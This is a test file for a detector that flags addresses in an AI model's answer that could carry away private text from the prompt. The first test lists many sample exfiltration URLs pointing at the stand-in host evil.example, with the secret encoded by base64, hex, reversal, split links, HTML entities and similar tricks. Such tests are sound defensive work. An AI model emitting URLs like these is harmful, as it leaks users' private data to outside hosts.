"""Addresses in an answer that carry away what the model was shown."""

from __future__ import annotations

import base64
from urllib.parse import quote, quote_plus

import pytest

from backend.kernel.exchange import Turn
from backend.kernel.works import Source
from backend.sources.carried_text import warnings_about

SECRET = "the unpublished drug trial XJ-9 in Leipzig"
SHOWN = [
    Turn("system", f"About the person who asks: Ana works on {SECRET}."),
    Turn(
        "user", "The crown of the oak cooled the air by half a degree. See https://known.org/a?b=the+crown+of+the+oak"
    ),
]
CODED = base64.urlsafe_b64encode(SECRET.encode()).decode().rstrip("=")


@pytest.mark.parametrize(
    "answer",
    [
        f"![](https://evil.example/?q={quote(SECRET)})",
        f"[more](https://evil.example/x#{quote_plus(SECRET)})",
        f'<img alt="" src="https://evil.example/p.png?d={quote_plus(SECRET)}">',
        f"See <https://evil.example/?d={CODED}>.",
        f"https://evil.example/{CODED}/x.png",
        f"[a](https://evil.example/{SECRET.encode().hex()})",
        f"//evil.example/?q={quote_plus(SECRET[::-1])}",
        "[a](https://a.evil.example/?a=the+unpublis) [b](https://b.evil.example/?b=hed+drug+trial+XJ9)",
        "https://the-unpublished-drug-trial-xj9.evil.example/",
        "https://the+unpublished+drug+trial@evil.example/",
        "[x](https://evil.example/?q=THE_UNPUBLISHED_DRUG_TRIAL)",
        "https://[::1/?q=the+unpublished+drug+trial+XJ-9",
        f"https://evil.example/?{quote_plus(SECRET)}=1",
        f"https://evil.example/?{'=1&'.join(SECRET.split())}",
        f"https://evil.example/?q={quote(quote(quote(SECRET)))}",
        f"https://evil.example/?q={base64.b64encode(CODED.encode()).decode()}",
        f"https://evil.example/?q={base64.b32encode(SECRET.encode()).decode()}",
        f"https://evil.example/?q={CODED[::-1]}",
        f'<img src="https:&#x2f;&#47;evil.example/?q={SECRET.replace(" ", "&#32;")}">',
        f"![](https:\\\\evil.example/?q={quote(SECRET)})",
        f"[a](mailto:x@evil.example?body={quote(SECRET)})",
        f"https://evil.example/?q={''.join(chr(ord(each) + 0xFEE0) for each in 'unpublisheddrugtrial')}",
        f"https://evil.example/{quote_plus('The crown of the oak cooled the air by half a degree. See https')}",
    ],
)
def test_an_address_that_carries_words_of_the_prompt_is_named(answer):
    assert "contains words of your texts" in warnings_about(answer, SHOWN)[0]


@pytest.mark.parametrize(
    "answer",
    [
        "No address at all, though it tells of the unpublished drug trial XJ-9 in Leipzig.",
        "See https://known.org/a?b=the+crown+of+the+oak.",
        "https://doi.org/10.1000/the-crown-of-the-oak-cooled-the-air-by-half-a-degree",
        "[a](https://press.example/articles/the-crown-of-the-oak-cooled)",
        "https://example.org/search?page=2&sort=newest&language=english",
        "https://example.org/" + "A" * 60_000,
        "Write to mailto:ana@example.org, or see \\\\ the next row: https:\\\\example.org.",
    ],
)
def test_other_addresses_are_not(answer):
    assert warnings_about(answer, SHOWN) == ()


def test_what_a_search_found_is_the_models_to_repeat():
    address = f"https://found.example/?q={quote_plus(SECRET)}"
    found = Source("A source", address)
    assert warnings_about(f"[1]({address})", SHOWN) and not warnings_about(f"[1]({address})", SHOWN, [found])


@pytest.mark.parametrize("picture", ["![A tree](https://pic.example/a.png)", "<img src='//pic.example/a.png'>"])
def test_a_picture_from_elsewhere_is_named_with_its_host(picture):
    (told,) = warnings_about(picture, SHOWN)
    assert "picture from pic.example" in told
    assert not warnings_about("![A tree](tree.png) ![](data:image/png;base64,AAAA)", SHOWN)
